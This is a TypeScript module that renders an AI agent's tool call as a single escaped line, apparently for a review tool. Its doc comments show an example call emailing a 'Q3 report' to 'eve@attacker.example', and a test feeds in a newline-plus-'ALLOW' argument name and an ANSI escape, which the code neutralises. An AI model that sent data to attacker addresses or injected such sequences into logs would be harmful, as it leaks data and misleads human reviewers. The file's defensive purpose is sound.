/**
 * Render a tool call on one line, the way pab's output shows it:
 * `send_email(to='eve@attacker.example', subject='Q3 report')`.
 *
 * @module
 */
import { canonicalJson } from "../../../core/mod.ts";
import { escapeControl } from "../io/escape_text.ts";

const MAX_VALUE = 60;

/**
 * One line for a call: strings in single quotes, other values as JSON, long
 * values cut to 60 characters and marked with `...`, and every control
 * character (newline, ESC, ...) escaped, in the tool name and argument names
 * too, so a call can never print as two lines.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { formatCall } from "./format_call.ts";
 * assert.equal(
 *   formatCall("send_email", { to: "eve@attacker.example", cc: ["bob@corp.example"] }),
 *   `send_email(to='eve@attacker.example', cc=["bob@corp.example"])`,
 * );
 * assert.equal(formatCall("x", { "a\nALLOW": "\x1b[32m" }), "x(a\\nALLOW='\\u{1b}[32m')");
 * ```
 */
export function formatCall(tool: string, args: Readonly<Record<string, unknown>>): string {
  const parts = Object.entries(args).map(([name, value]) => `${escapeControl(name)}=${formatValue(value)}`);
  return `${escapeControl(tool)}(${parts.join(", ")})`;
}

function formatValue(value: unknown): string {
  if (typeof value === "string") {
    return `'${cut(escapeControl(value.replaceAll("\\", "\\\\").replaceAll("'", "\\'")))}'`;
  }
  let text: string;
  try {
    text = value === undefined ? "undefined" : canonicalJson(value);
  } catch {
    text = String(value);
  }
  return cut(escapeControl(text));
}

function cut(text: string): string {
  return text.length > MAX_VALUE ? `${text.slice(0, MAX_VALUE - 3)}...` : text;
}
